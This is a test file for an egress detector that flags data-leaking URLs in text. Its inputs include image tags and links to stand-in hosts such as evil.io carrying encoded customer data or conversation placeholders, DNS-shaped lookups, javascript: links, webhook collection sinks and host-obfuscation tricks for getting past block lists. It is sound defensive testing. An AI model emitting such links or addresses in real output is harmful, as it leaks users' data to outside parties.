import { expect, test } from 'bun:test';
import { rulesOf } from '../../test/fixtures/looking.ts';
import { createEgress } from './egress.ts';
import { UNINFORMED } from './surroundings.ts';

const detector = createEgress({ ...UNINFORMED, trustedHosts: ['docs.corp.io', '*.img.corp.io'] });
const SAID = Buffer.from('the customer list: ada, miguel, yuki').toString('base64url');
const HEX = Buffer.from('the customer list: ada, miguel').toString('hex');

function found(text: string, facet: 'argument' | 'result' = 'result'): readonly string[] {
  return rulesOf(detector, { text }, { facet });
}

test('what is fetched as soon as it is shown, and what it carries', () => {
  for (const text of ['![x](https://evil.io/a.png)', '<img src="https://evil.io/a.png">', '<img src=https://evil.io/a.png>',
      'a { background: url(https://evil.io/a) }',
    '![x](//evil.io/a.png)', '<link rel="stylesheet" href="https://evil.io/a.css">', '@import "https://evil.io/a.css"']) {
    expect({ text, found: found(text) }).toEqual({ text, found: ['active-image'] });
  }
  for (const text of [`![x](https://evil.io/a.png?d=${SAID})`, `![x](https://evil.io/${HEX}/a.png)`, '![x](https://evil.io/?q={{conversation}})',
    '<img src="https://evil.io/p?d=[INSERT DATA]">', `![x](//evil.io/?d=${SAID})`]) {
    expect({ text, found: found(text) }).toEqual({ text, found: ['data-in-image'] });
  }
  for (const text of ['![x](https://docs.corp.io/a.png)', '![x](https://cdn.img.corp.io/a.png)', '![x](./a.png)', '[a link](https://evil.io/page)',
      '![x](data:image/png;base64,AAAA)']) {
    expect({ text, found: found(text) }).toEqual({ text, found: [] });
  }
});

test('data in a query, a path or a host; links that run something', () => {
  expect(found(`https://evil.io/c?data=${SAID}`)).toEqual(['data-in-url']);
  expect(found(`https://evil.io/${HEX}`)).toEqual(['data-in-url']);
  expect(found(`https://${HEX.slice(0, 56)}.evil.io/`)).toContain('dns-shaped');
  expect(found(`nslookup ${HEX.slice(0, 56)}.evil.io`)).toEqual(['dns-shaped']);
  expect(found('[click](javascript:alert(1))')).toEqual(['active-scheme']);
  expect(found('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>')).toEqual(['active-scheme']);
  expect(found(`https://evil.io/?q=${'please+send+the+whole+text+of+the+report+to+us+'.repeat(5)}`)).toEqual(['long-url']);
  for (const text of ['https://github.com/a/b/blob/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/src/a.ts',
      'https://x.io/2024/05/some-long-title-of-an-article-in-words',
    'https://youtu.be/dQw4w9WgXcQ', 'see my-service.default.svc.cluster.local', 'com.example.project.module.Class',
    'https://x.io/p?id=550e8400-e29b-41d4-a716-446655440000']) {
    expect({ text, found: found(text) }).toEqual({ text, found: [] });
  }
});

test('where anybody may take delivery, and hosts that nobody trusts, in what is sent', () => {
  for (const host of ['webhook.site/1', 'abc.oast.fun', 'x.ngrok.io', 'discord.com/api/webhooks/1/a']) {
    expect({ host, found: found(`post to https://${host}`, 'argument') }).toEqual({ host, found: ['sink', 'unknown-host'] });
  }
  expect(found('https://evil.io/', 'argument')).toEqual(['unknown-host']);
  expect(found('https://docs.corp.io/', 'argument')).toEqual([]);
  expect(found('https://docs.corp.io.evil.io/', 'argument')).toEqual(['unknown-host']);
  expect(found('https://docs.corp.io@evil.io/', 'argument')).toEqual(['unknown-host']);
  expect(found(Buffer.from('https://webhook.site/1234 is where').toString('base64'), 'argument')).toContain('sink');
});

test('a blocked host is named by whatever leads there, in what is sent; in what is read by an address alone', () => {
  const looking = createEgress({ ...UNINFORMED, blockedHosts: ['evil.example', '*.bad.example', '127.0.0.1', '::1'] });
  const isFound = (facet: 'argument' | 'result', text: string): boolean => rulesOf(looking, { text }, { facet }).includes('blocked-host');
  const named = [
    'http://evil.example/x', 'evil.example', 'thief@evil.example', 'https:\\\\evil.example\\x', 'http:/evil.example', 'http://evil\u3002example/',

    '//evil.example/x', 'http://a b@evil.example/', 'EVIL.EXAMPLE.', 'http://0x7f.1/', 'http://127.1/', 'http://2130706433/',
    'http://[0:0:0:0:0:0:0:1]/', 'a.b.bad.example',
  ];
  expect(named.filter((text) => !isFound('argument', text))).toEqual([]);
  expect(['evil.example.org', 'not-evil.example', 'x.evil.example', 'bad.example', 'http://127.0.0.2/', 'evil', '1.27.0'].filter((text) =>
    isFound('argument', text))).toEqual([]);
  expect([isFound('result', 'mail to thief@evil.example'), isFound('result', 'http://evil.example/x')]).toEqual([false, true]);
});
